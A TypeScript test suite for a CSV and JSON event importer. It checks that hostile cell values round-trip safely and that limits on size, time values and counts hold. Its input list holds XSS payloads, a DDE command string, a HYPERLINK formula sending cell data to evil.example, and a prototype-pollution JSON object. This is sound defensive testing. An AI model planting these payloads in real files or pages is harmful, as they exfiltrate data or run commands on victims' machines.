import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../src/lib/model/csv-cell';
import { ProblemError } from '../../src/lib/model/problem';
import { asJsonLines } from '../support/written-as';
import { MemoryWorkspace, openQuery, utf8 } from '../support/memory-workspace';
import { byLength } from '../support/test-length';

/** What stands in cells and headers to get at the program, the page or the spreadsheet behind it. */

const HEADER = [
	'timestamp',
	'event',
	'pin_id',
	'user_id',
	'account',
	'pin_title',
	'board',
	'link',
	'image_url'
];

const MEAN_TEXTS = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'{@html "x"}',
	'javascript:alert(1)',
	'data:text/html,<script>alert(1)</script>',
	'\u202Eesrever\u202C',
	'\u2066isolate\u2069',
	'\u0001\u0007\u001B[31m\u007F',
	'zero\u200Bwidth\u2060',
	'=HYPERLINK("https://evil.example/?"&A1)',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-1+1',
	'@SUM(A1)',
	"'=1+1",
	"''",
	'tab\tbed',
	'line\r\nbreak',
	'"',
	'""',
	',',
	'\u{1F4CC}'.repeat(50)
];

/** The file of an event for each text, which stands in every cell that takes any. */
const meanRows = MEAN_TEXTS.map((text) => [
	'2026-05-01T10:00:00Z',
	'impression',
	...HEADER.slice(2).map(() => text)
]);

async function problemOf(read: Promise<unknown>): Promise<string> {
	return read.then(
		() => 'none',
		(error: unknown) => {
			if (error instanceof ProblemError) return error.problem.code;
			throw error;
		}
	);
}

describe('mean texts', () => {
	const csv = [HEADER, ...meanRows].map((row) => row.map(csvText).join(',')).join('\r\n');

	it('are kept as they are, exported as text and come back unchanged', async () => {
		const workspace = new MemoryWorkspace();
		const { accepted, rejected } = await workspace.import(utf8(`${csv}\r\n`));
		expect([accepted, rejected]).toEqual([MEAN_TEXTS.length, 0]);
		const exported = await workspace.exportCsv('events', openQuery());
		const { data } = Papa.parse<string[]>(new TextDecoder().decode(exported).trimEnd(), { delimiter: ',' });
		const [columns, ...rows] = data as [string[], ...string[][]];
		for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@\t\r\n]|^[+-](?!\d+$)/);
		const titles = rows.map((row) => row[columns.indexOf('pin_title')]!.replace(/^'(?='*[=+\-@\t\r\n])/, ''));
		expect(titles.sort()).toEqual([...MEAN_TEXTS].sort());

		const again = new MemoryWorkspace();
		expect(await again.import(exported)).toMatchObject({ accepted, rejected: 0 });
		expect(await again.exportCsv('events', openQuery())).toEqual(exported);
		expect(await again.answer(openQuery())).toEqual(await workspace.answer(openQuery()));
	});

	it('come out of JSON as out of CSV', async () => {
		const [fromCsv, fromJson] = [new MemoryWorkspace(), new MemoryWorkspace()];
		await fromCsv.import(utf8(`${csv}\r\n`));
		await fromJson.import(utf8(asJsonLines({ columns: HEADER, rows: meanRows })));
		expect(await fromJson.exportCsv('events', openQuery())).toEqual(
			await fromCsv.exportCsv('events', openQuery())
		);
	});

	it('as names of columns are unknown columns and nothing else', async () => {
		const names = MEAN_TEXTS.filter((text) => text.trim() !== '');
		const header = [...HEADER, ...names].map(csvText).join(',');
		const row = [...meanRows[0]!, ...names].map(csvText).join(',');
		const { accepted, unknownColumns } = await new MemoryWorkspace().import(utf8(`${header}\n${row}\n`));
		expect(accepted).toBe(1);
		expect(unknownColumns).toContain('__proto__');
		const json =
			'{"timestamp":"2026-05-01","event":"save","pin_id":"1","__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}';
		expect(await new MemoryWorkspace().import(utf8(json))).toMatchObject({ accepted: 1 });
		expect(Object.prototype).not.toHaveProperty('isAdmin');
	});
});

describe('extremes', () => {
	it.each([
		'0001-01-01',
		'9999-12-31T23:59:59Z',
		'-000001-01-01',
		'99999999999999999',
		'+275760-09-13T00:00:00Z'
	])('of time are rejected: %s', async (time) => {
		const result = await new MemoryWorkspace().import(utf8(`timestamp,event,pin_id\n${time},save,1\n`));
		expect([result.accepted, result.rejected]).toEqual([0, 1]);
	});

	it('of counts add up to less than 2^53, or are an error', async () => {
		const workspace = new MemoryWorkspace();
		const rows = 2 ** 21; // times 2^32 - 1
		const row = '2026-05-01,save,1,4294967295\n';
		await workspace.import(utf8(`timestamp,event,pin_id,count\n${row.repeat(rows)}`));
		expect((await workspace.answer(openQuery())).totals.saves).toBe(rows * 4_294_967_295);
		await workspace.import(utf8(`timestamp,event,pin_id,count\n2026-05-01,save,1,${rows - 1}\n`));
		expect((await workspace.answer(openQuery())).totals.saves).toBe(2 ** 53 - 1);
		await workspace.import(utf8('timestamp,event,pin_id,count\n2026-05-01,save,1,1\n'));
		expect(await problemOf(workspace.answer(openQuery()))).toBe('figure_too_large');
	}, 60_000);

	it('of length: a cell of 50 MB is a row too long, in every format of text', async () => {
		const cell = 'x'.repeat(50 << 20);
		const csv = `timestamp,event,pin_id,pin_title\n2026-05-01,save,1,${cell}\n2026-05-01,save,1,\n`;
		const json = `{"timestamp":"2026-05-01","event":"save","pin_id":"1","pin_title":"${cell}"}`;
		expect(await problemOf(new MemoryWorkspace().import(utf8(csv)))).toBe('row_too_long');
		expect(
			await problemOf(new MemoryWorkspace().import(utf8(csv.replace('1,x', '1,"x').replace('x\n', 'x"\n'))))
		).toBe('unclosed_quote');
		const first = '{"timestamp":"2026-05-01","event":"save","pin_id":"1"}';
		expect(await problemOf(new MemoryWorkspace().import(utf8(`${first}\n${json}\n`)))).toBe('row_too_long');
		expect(await problemOf(new MemoryWorkspace().import(utf8(`[${first},\n${json}]`)))).toBe('row_too_long');
	}, 60_000);

	it('of variety: every value that a closed list does not have is a rejected row', async () => {
		const values = byLength(100_000, 1_000_000);
		const rows = Array.from({ length: values }, (_, i) => `2026-05-01,save,1,device ${i}\n`);
		const workspace = new MemoryWorkspace();
		const { accepted, rejected } = await workspace.import(
			utf8(`timestamp,event,pin_id,device\n${rows.join('')}`)
		);
		expect([accepted, rejected]).toEqual([0, values]);
		expect(workspace.rejectedCsv.trimEnd().split('\r\n')).toHaveLength(values + 1);
	}, 120_000);
});
